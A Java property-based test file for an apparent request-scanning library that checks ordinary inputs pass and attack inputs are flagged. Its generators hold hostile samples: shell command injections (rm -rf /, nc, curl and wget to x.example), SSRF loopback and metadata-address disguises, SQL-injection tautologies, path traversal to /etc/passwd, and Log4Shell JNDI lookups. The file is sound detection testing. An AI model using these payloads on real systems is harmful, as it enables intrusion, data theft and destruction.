package dev.portcullis.threat;

import static org.assertj.core.api.Assertions.assertThat;

import dev.portcullis.request.Finding;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.Combinators;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import net.jqwik.api.Provide;
import org.junit.jupiter.api.Test;

/**
 * What is ordinary passes, what is next to it and works as an attack does not: each kind is made by
 * a generator, and has its neighbour.
 */
class FalseAlarmTest {

  private static final Arbitrary<String> NAME =
      Arbitraries.strings().withCharRange('a', 'z').ofMinLength(2).ofMaxLength(8);

  /** Words of prose that are commands, too. */
  private static final Arbitrary<String> WORD =
      Arbitraries.of(
          "date", "time", "type", "test", "find", "file", "host", "sort", "cut", "who", "make",
          "mount", "set", "top", "head", "tail", "node", "move", "copy", "service", "kill", "echo",
          "export", "cat", "free", "id", "env");

  private static final Arbitrary<String> LAST_LETTER =
      Arbitraries.of("Прайс", "価格", "prix payé", "Größe", "السعر", "τιμή", "cena č", "Цена, €");

  private static final Arbitrary<String> LOOPBACK =
      Arbitraries.of("localhost", "127.0.0.1", "[::1]");

  @Property(tries = 100)
  void aLoopbackRedirectPasses(
      @ForAll("loopback") String host, @ForAll("ephemeral") int port, @ForAll("name") String path) {
    passes("http://" + host + ":" + port + "/" + path + "?code=" + path);
    passes("http://" + host + "/" + path);
    passes("https://" + host);
  }

  @Property(tries = 100)
  void whatHidesTheLoopbackInterfaceIsFound(@ForAll("disguise") String host) {
    found("http://" + host + "/x");
    found("http://localhost@" + host + "/");
    found("http://localhost:6379/" + host);
  }

  @Property(tries = 100)
  void aSecondLineOfOneWordPasses(@ForAll("name") String first, @ForAll("word") String second) {
    passes(capital(first) + "\n" + capital(second));
    passes(first + "\r\n" + second);
  }

  @Property(tries = 100)
  void aSecondLineThatIsACommandIsFound(@ForAll("name") String first, @ForAll("hostile") String c) {
    found(first + "\n" + c);
    found("127.0.0.1\r\n" + c);
  }

  @Property(tries = 100)
  void aListOfWordsPassesInAnyScript(
      @ForAll("lastLetter") String first, @ForAll("word") String second) {
    passes(first + "; " + second);
    passes(first + ";" + capital(second));
  }

  @Property(tries = 100)
  void aCommandBehindAWordOfAnyScriptIsFound(
      @ForAll("lastLetter") String first, @ForAll("hostile") String second) {
    found(first + "; " + second);
    found(first + " | " + second);
  }

  @Property(tries = 100)
  void aRangeOfVersionsPasses(@ForAll("range") String range) {
    passes(range);
  }

  @Property(tries = 100)
  void aConditionOfNumbersIsFound(@ForAll("digits") int a, @ForAll("blank") String blank) {
    found(a + blank + "||" + blank + a + "=" + a);
    found(a + blank + "or" + blank + a + ">=" + a);
    found("1' or" + blank + a + "=" + a);
  }

  @Property(tries = 100)
  void theScriptOfAManifestPasses(@ForAll("step") String first, @ForAll("step") String second) {
    passes(first + " && " + second);
    passes("tsc && " + second + " && " + first);
  }

  @Property(tries = 100)
  void aHostileStepIsFoundInAScript(@ForAll("step") String first, @ForAll("hostile") String last) {
    found(first + " && " + last);
    found(first + "; " + last);
    found("x`" + last + "`");
  }

  @Property(tries = 100)
  void aReferenceWithinAProjectPasses(
      @ForAll("climb") int climb, @ForAll("name") String file, @ForAll("kind") String kind) {
    passes("../".repeat(climb) + file + "." + kind);
    passes("../".repeat(climb) + "packages/" + file + "/" + file + "." + kind);
  }

  @Property(tries = 100)
  void aPathOutOfAProjectIsFound(@ForAll("deep") int climb, @ForAll("step2") String step) {
    for (String target : List.of("etc/passwd", "windows/win.ini", "proc/self/environ")) {
      found(step.repeat(climb) + target);
      found(step.repeat(climb) + target + "%00.json");
    }
    found("../".repeat(climb) + "etc/app.json");
    found("..\\".repeat(climb) + "tsconfig.json");
  }

  @Property(tries = 100)
  void aPlaceholderPassesAndALookupIsFound(@ForAll("name") String name) {
    passes("${env:" + name.toUpperCase(java.util.Locale.ROOT) + "}");
    passes("${sys:" + name + "} and ${" + name + "}");
    found("${jndi:ldap://" + name + "/${env:" + name + "}}");
    found("${${env:" + name + ":-j}ndi:ldap://" + name + "}");
  }

  /** A seed of its own, so that the share is the same in every run. */
  @Test
  void fewRandomPasswordsAreTakenForAttacks() {
    var random = new Random(20_260_713);
    int found = 0;
    int tried = 30_000;
    for (int i = 0; i < tried; i++) {
      int length = 8 + random.nextInt(41);
      var password = new StringBuilder(length);
      for (int k = 0; k < length; k++) {
        password.append((char) (33 + random.nextInt(94)));
      }
      found += Requests.json("{\"p\":" + OrdinaryTrafficTest.quoted(password + "") + "}").size();
    }
    assertThat(found).isLessThan(tried / 1000);
  }

  private static void passes(String text) {
    String encoded = URLEncoder.encode(text, StandardCharsets.UTF_8);
    assertThat(Requests.findings("/a?q=" + encoded)).as(text).isEmpty();
    assertThat(Requests.json("{\"a\":" + OrdinaryTrafficTest.quoted(text) + "}"))
        .as(text)
        .isEmpty();
  }

  private static void found(String text) {
    var alarms = new ArrayList<Finding>();
    alarms.addAll(Requests.json("{\"a\":" + OrdinaryTrafficTest.quoted(text) + "}"));
    assertThat(alarms).as(text).isNotEmpty();
    String encoded = URLEncoder.encode(text, StandardCharsets.UTF_8);
    assertThat(Requests.findings("/a?q=" + encoded)).as(text).isNotEmpty();
  }

  private static String capital(String word) {
    return Character.toUpperCase(word.charAt(0)) + word.substring(1);
  }

  @Provide
  Arbitrary<String> name() {
    return NAME;
  }

  @Provide
  Arbitrary<String> word() {
    return WORD;
  }

  @Provide
  Arbitrary<String> lastLetter() {
    return LAST_LETTER;
  }

  @Provide
  Arbitrary<String> loopback() {
    return LOOPBACK;
  }

  @Provide
  Arbitrary<Integer> ephemeral() {
    // 50070 is a service's own, of Hadoop's name node, and stays found.
    return Arbitraries.integers().between(49_152, 65_535).filter(port -> port != 50_070);
  }

  @Provide
  Arbitrary<String> disguise() {
    return Arbitraries.of(
        "2130706433",
        "0x7f.1",
        "0177.0.0.1",
        "127.1",
        "[::ffff:127.0.0.1]",
        "0.0.0.0",
        "169.254.169.254",
        "127.0.0.1.nip.io",
        "a@127.0.0.1",
        "a@localhost");
  }

  @Provide
  Arbitrary<String> hostile() {
    return Arbitraries.of(
        "cat /etc/hosts",
        "ls -la",
        "whoami",
        "uname -a",
        "ping -c 3 10.0.0.1",
        "/bin/id",
        "curl http://x.example/a",
        "nc 10.0.0.1 4444",
        "bash -c id",
        "rm -rf /",
        "head /etc/group",
        "c'a't /etc/hosts",
        "cat${IFS}/etc/hosts",
        "wget http://x.example/s");
  }

  @Provide
  Arbitrary<String> step() {
    Arbitrary<String> pattern =
        Arbitraries.of(
            "node scripts/%s.js",
            "npm run %s",
            "mkdir -p dist/%s",
            "cp -r src/%s dist",
            "%s",
            "bash scripts/%s.sh",
            "rm -rf dist",
            "eslint . --ext %s",
            "chmod +x dist/%s.js",
            "git add %s.json",
            "node ./%s.mjs",
            "vite build --mode %s",
            "python setup.py %s");
    return Combinators.combine(pattern, NAME.map(n -> "x" + n)).as(String::formatted);
  }

  @Provide
  Arbitrary<String> range() {
    Arbitrary<String> version =
        Combinators.combine(
                Arbitraries.of("", ">=", "^", "~", "<", "<=", ">"),
                Arbitraries.integers().between(0, 99),
                Arbitraries.of("", ".0", ".x", ".17", ".4.2", ".0.0-rc.1"))
            .as((comparison, major, rest) -> comparison + major + rest);
    return version
        .list()
        .ofMinSize(2)
        .ofMaxSize(5)
        .flatMap(
            versions -> Arbitraries.of(" || ", " ", "||").map(join -> String.join(join, versions)));
  }

  @Provide
  Arbitrary<Integer> digits() {
    return Arbitraries.integers().between(1, 9_999);
  }

  @Provide
  Arbitrary<String> blank() {
    return Arbitraries.of(" ", "\t", "  ", "/**/", "\n");
  }

  @Provide
  Arbitrary<Integer> climb() {
    return Arbitraries.integers().between(1, 6);
  }

  @Provide
  Arbitrary<Integer> deep() {
    return Arbitraries.integers().between(3, 9);
  }

  @Provide
  Arbitrary<String> step2() {
    return Arbitraries.of("../", "..\\", "%2e%2e/", "..%2f", "....//", "./../", "..;/");
  }

  @Provide
  Arbitrary<String> kind() {
    return Arbitraries.of("json", "js", "ts", "tsx", "md", "css", "svg", "java", "d.ts");
  }
}
